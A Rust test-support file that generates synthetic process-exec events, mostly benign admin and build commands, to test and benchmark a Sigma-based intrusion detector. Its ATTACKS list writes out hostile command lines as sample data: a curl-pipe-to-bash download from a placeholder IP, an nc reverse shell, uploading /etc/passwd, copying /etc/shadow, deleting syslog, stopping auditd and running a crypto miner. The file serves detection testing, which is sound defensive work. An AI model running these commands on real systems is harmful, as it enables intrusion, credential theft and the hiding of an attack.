//! Deterministic process-exec events for tests and the benchmark, in the
//! shape of dac's exec probe plus the fields the Sigma mapping reads
//! (`parent_path`, `parent_command_line`, `user`, `cwd`).
//!
//! The ideas follow the project's generator (`tests/src/generate.rs`): a
//! fleet's monitoring noise, interactive commands, builds and deployments,
//! near-misses of attack commands, and about 1 % attacks. It is a separate,
//! smaller copy so this crate does not depend on the test crate.

#![allow(dead_code)]

use serde_json::{json, Value};

/// xorshift64*: small, fast and deterministic.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }

    pub fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// (path, arguments, parent path, parent command line); `{n}` is a number,
/// `{h}` a host name, `{f}` a file.
const BENIGN: &[(&str, &str, &str, &str)] = &[
    ("/usr/bin/cat", "/proc/{n}/stat", "/usr/bin/node_exporter", "/usr/bin/node_exporter --collector.processes"),
    ("/usr/bin/cat", "/proc/{n}/stat", "/usr/bin/node_exporter", "/usr/bin/node_exporter --collector.processes"),
    ("/usr/bin/cat", "/proc/{n}/stat", "/usr/bin/node_exporter", "/usr/bin/node_exporter --collector.processes"),
    ("/usr/bin/cat", "/proc/loadavg", "/usr/bin/node_exporter", "/usr/bin/node_exporter"),
    ("/usr/bin/df", "-P -B1", "/usr/bin/node_exporter", "/usr/bin/node_exporter"),
    ("/usr/bin/ls", "-la", "/usr/bin/bash", "-bash"),
    ("/usr/bin/ls", "-lh /var/log/{f}", "/usr/bin/bash", "-bash"),
    ("/usr/bin/ps", "aux", "/usr/bin/bash", "-bash"),
    ("/usr/bin/grep", "-rn TODO src/", "/usr/bin/bash", "-bash"),
    ("/usr/bin/grep", "-i error /var/log/nginx/error.log", "/usr/bin/bash", "-bash"),
    ("/usr/bin/tail", "-n 100 /var/log/syslog", "/usr/bin/bash", "-bash"),
    ("/usr/bin/tail", "-f /var/log/nginx/access.log", "/usr/bin/bash", "-bash"),
    ("/usr/bin/systemctl", "status {f}", "/usr/bin/bash", "-bash"),
    ("/usr/bin/systemctl", "is-enabled nginx", "/usr/bin/bash", "-bash"),
    ("/usr/bin/journalctl", "-u nginx --since 1 hour ago", "/usr/bin/bash", "-bash"),
    ("/usr/bin/git", "status", "/usr/bin/bash", "-bash"),
    ("/usr/bin/git", "log --oneline -n 20", "/usr/bin/bash", "-bash"),
    ("/usr/bin/git", "pull --rebase origin main", "/usr/bin/bash", "-bash"),
    ("/usr/bin/ssh", "-o SendEnv=GIT_PROTOCOL git@github.com git-upload-pack 'acme/api.git'", "/usr/bin/git", "git pull --rebase origin main"),
    ("/home/dev/.cargo/bin/cargo", "build --release", "/usr/bin/bash", "-bash"),
    ("/home/dev/.rustup/toolchains/stable/bin/rustc", "--crate-name serde --edition=2021 src/lib.rs --error-format=json --crate-type lib -C opt-level=3", "/home/dev/.cargo/bin/cargo", "cargo build --release"),
    ("/usr/bin/cc", "-m64 -fPIC -O3 -c -o target/release/build/ring-{n}/out/cpu_intel.o crypto/cpu_intel.c", "/home/dev/.cargo/bin/cargo", "cargo build --release"),
    ("/bin/sh", "-c gcc -O2 -Wall -Iinclude -c src/{f}.c -o build/{f}.o", "/usr/bin/make", "make -j8"),
    ("/usr/bin/gcc", "-O2 -Wall -Iinclude -c src/{f}.c -o build/{f}.o", "/bin/sh", "sh -c gcc -O2 -Wall -Iinclude -c src/{f}.c -o build/{f}.o"),
    ("/usr/lib/gcc/x86_64-linux-gnu/11/cc1", "-quiet -Iinclude src/{f}.c -o /tmp/cc{n}.s", "/usr/bin/gcc", "gcc -O2 -c src/{f}.c"),
    ("/usr/bin/node", "install.js", "/bin/sh", "sh -c node install.js"),
    ("/usr/bin/npm", "ci", "/usr/bin/bash", "-bash"),
    ("/usr/bin/curl", "-s https://api.github.com/repos/acme/{f}/releases/latest -o latest.json", "/usr/bin/bash", "-bash"),
    ("/usr/bin/curl", "-sS -o /dev/null -w %{http_code} https://{h}/healthz", "/usr/bin/bash", "-bash"),
    ("/usr/bin/wget", "-q https://github.com/prometheus/node_exporter/releases/download/v1.6.1/node_exporter-1.6.1.linux-amd64.tar.gz", "/usr/bin/bash", "-bash"),
    ("/usr/bin/ssh", "deploy@{h} uptime", "/usr/bin/bash", "-bash"),
    ("/usr/bin/scp", "build/app-1.4.{n}.tar.gz deploy@{h}:/srv/releases/", "/usr/bin/bash", "-bash"),
    ("/usr/bin/rsync", "-avz --delete dist/ deploy@{h}:/srv/www/", "/usr/bin/bash", "-bash"),
    ("/usr/bin/tar", "czf backup-2023-09-{n}.tar.gz /etc/nginx", "/usr/bin/bash", "-bash"),
    ("/usr/bin/cp", "{f}.conf /tmp/{f}.conf.bak", "/usr/bin/bash", "-bash"),
    ("/usr/bin/vim", "/etc/nginx/sites-available/{f}", "/usr/bin/bash", "-bash"),
    ("/usr/bin/base64", "-w0 /home/dev/.ssh/id_ed25519.pub", "/usr/bin/bash", "-bash"),
    ("/usr/bin/sha256sum", "app-1.4.{n}.tar.gz", "/usr/bin/bash", "-bash"),
    ("/usr/bin/python3", "manage.py migrate", "/usr/bin/bash", "-bash"),
    ("/usr/bin/python3", "-m pytest -q tests/", "/usr/bin/bash", "-bash"),
    ("/usr/sbin/nginx", "-s reload", "/usr/bin/sudo", "sudo nginx -s reload"),
    ("/usr/bin/sudo", "systemctl restart {f}", "/usr/bin/bash", "-bash"),
    ("/usr/bin/docker", "ps --format {{.Names}}", "/usr/bin/bash", "-bash"),
    ("/usr/bin/kubectl", "get pods -n prod -o wide", "/usr/bin/bash", "-bash"),
    ("/usr/bin/psql", "-U app -c select count(*) from jobs", "/usr/bin/bash", "-bash"),
    ("/usr/lib/postgresql/15/bin/postgres", "-D /var/lib/postgresql/15/main", "/usr/lib/systemd/systemd", "/sbin/init"),
    ("/usr/bin/run-parts", "--report /etc/cron.hourly", "/usr/sbin/cron", "/usr/sbin/cron -f"),
    ("/usr/bin/logrotate", "/etc/logrotate.conf", "/usr/lib/systemd/systemd", "/sbin/init"),
    ("/usr/bin/find", "/var/log -name *.gz -mtime +30 -delete", "/usr/bin/bash", "-bash"),
    ("/usr/bin/openssl", "x509 -in /etc/ssl/certs/{f}.pem -noout -dates", "/usr/bin/bash", "-bash"),
    ("/usr/bin/dig", "+short {h}", "/usr/bin/bash", "-bash"),
    ("/usr/bin/ping", "-c 3 {h}", "/usr/bin/bash", "-bash"),
];

/// What intruders type: most of these fire at least one SigmaHQ rule.
const ATTACKS: &[(&str, &str, &str, &str)] = &[
    ("/usr/bin/sudo", "cat /etc/shadow", "/usr/bin/bash", "-bash"),
    ("/bin/sh", "-c curl -fsSL http://203.0.113.7/i.sh | bash", "/usr/lib/jvm/java-17/bin/java", "java -jar app.jar"),
    ("/bin/sh", "-c id > /tmp/.id", "/usr/sbin/nginx", "nginx: worker process"),
    ("/usr/bin/nc", "203.0.113.7 4444 -e /bin/sh", "/usr/bin/bash", "bash -i"),
    ("/usr/bin/python3", "-c import pty; pty.spawn(\"/bin/bash\")", "/usr/bin/bash", "-bash"),
    ("/usr/bin/cp", "/etc/shadow /tmp/s", "/usr/bin/bash", "-bash"),
    ("/usr/bin/chmod", "+x /tmp/.x/payload", "/usr/bin/bash", "-bash"),
    ("/tmp/.x/payload", "--daemon", "/usr/bin/bash", "-bash"),
    ("/usr/bin/crontab", "-l", "/usr/bin/bash", "-bash"),
    ("/usr/bin/wget", "http://203.0.113.7/x -O /tmp/x", "/usr/bin/bash", "-bash"),
    ("/usr/bin/base64", "-d /tmp/p.b64", "/usr/bin/bash", "-bash"),
    ("/usr/bin/rm", "-f /var/log/syslog", "/usr/bin/bash", "-bash"),
    ("/usr/bin/systemctl", "stop auditd", "/usr/bin/bash", "-bash"),
    ("/usr/bin/whoami", "", "/usr/sbin/nginx", "nginx: worker process"),
    ("/tmp/.x/xmrig", "-o pool.minexmr.com:443 --donate-level=0", "/usr/bin/bash", "-bash"),
    ("/usr/bin/find", "/ -perm -4000 -type f", "/usr/bin/bash", "-bash"),
    ("/usr/bin/ls", "-id /", "/usr/bin/bash", "-bash"),
    ("/usr/bin/curl", "-F file=@/etc/passwd https://203.0.113.7/u", "/usr/bin/bash", "-bash"),
];

const FILES: &[&str] = &["nginx", "api", "worker", "postgresql", "redis", "app", "billing", "frontend", "main", "util"];
const HOSTS: &[&str] = &["web-01", "web-02", "db-01", "build-01", "pop-os", "api.acme.io", "10.0.2.14"];

fn fill(template: &str, rng: &mut Rng) -> String {
    let mut out = String::with_capacity(template.len() + 16);
    let mut rest = template;
    while let Some(i) = rest.find('{') {
        out.push_str(&rest[..i]);
        let tail = &rest[i..];
        if let Some(after) = tail.strip_prefix("{n}") {
            out.push_str(&(rng.below(60_000) + 300).to_string());
            rest = after;
        } else if let Some(after) = tail.strip_prefix("{f}") {
            out.push_str(FILES[rng.below(FILES.len())]);
            rest = after;
        } else if let Some(after) = tail.strip_prefix("{h}") {
            out.push_str(HOSTS[rng.below(HOSTS.len())]);
            rest = after;
        } else {
            out.push('{');
            rest = &tail[1..];
        }
    }
    out.push_str(rest);
    out
}

/// Makes one event; `attack` picks from the attack list.
pub fn event(rng: &mut Rng, index: u64, attack: bool) -> Value {
    let (path, args, parent_path, parent_cmd) = if attack { *rng.pick(ATTACKS) } else { *rng.pick(BENIGN) };
    let args = fill(args, rng);
    let parent_cmd = fill(parent_cmd, rng);
    // Sysmon-style command lines start with argv[0] as typed: a bare name
    // from an interactive shell, the full path from services.
    let argv0 = if parent_cmd == "-bash" { path.rsplit('/').next().unwrap_or(path) } else { path };
    let command_line = if args.is_empty() { argv0.to_owned() } else { format!("{argv0} {args}") };
    let host = HOSTS[(index % 5) as usize];
    let pid = 8_000 + (index % 4_000_000);
    json!({
        "hostname": host,
        "ip_address": format!("10.0.1.{}", 10 + index % 5),
        "parent_pid": pid - 1 - (index % 7),
        "pid": pid,
        "path": path,
        "binary": path.rsplit('/').next().unwrap_or(path).chars().take(15).collect::<String>(),
        "arguments": args,
        "command_line": command_line,
        "parent_path": parent_path,
        "parent_command_line": parent_cmd,
        "user": if attack && rng.below(2) == 0 { "root" } else { "deploy" },
        "cwd": "/home/deploy",
        "ts": 1_695_342_000_000u64 + index * 3,
    })
}

/// `count` events, one in a hundred an attack.
pub fn events(seed: u64, count: usize) -> Vec<Value> {
    let mut rng = Rng::new(seed);
    (0..count as u64)
        .map(|i| {
            let attack = rng.below(100) == 0;
            event(&mut rng, i, attack)
        })
        .collect()
}

/// A hostile event for soundness tests: command lines stitched from the
/// rules' own literals with random case, spacing and noise, some fields
/// missing, null or numeric.
pub fn fuzz_event(rng: &mut Rng, fragments: &[String]) -> Value {
    let text = |rng: &mut Rng| {
        let mut s = String::new();
        for _ in 0..rng.below(6) {
            let frag = if rng.below(4) == 0 { "x".repeat(rng.below(3)) } else { rng.pick(fragments).clone() };
            let frag: String =
                frag.chars().map(|c| if rng.below(3) == 0 { c.to_ascii_uppercase() } else { c }).collect();
            // Cut fragments sometimes, so literals appear partially.
            let cut = if rng.below(5) == 0 { frag.chars().take(rng.below(frag.len() + 1)).collect() } else { frag };
            s.push_str(&cut);
            s.push_str(SEPARATORS[rng.below(SEPARATORS.len())]);
        }
        s
    };
    let mut map = serde_json::Map::new();
    for field in ["path", "command_line", "parent_path", "parent_command_line", "user", "cwd"] {
        let value = match rng.below(12) {
            0 => continue,
            1 => Value::Null,
            2 => json!(rng.below(5)),
            _ => Value::String(text(rng)),
        };
        map.insert(field.to_owned(), value);
    }
    if rng.below(10) == 0 {
        map.insert("nested".into(), json!({"deep": [text(rng), {"x": text(rng)}]}));
    }
    Value::Object(map)
}

const SEPARATORS: &[&str] = &["", " ", "  ", "/", "|", "'", "\t", "İ", "ß"];
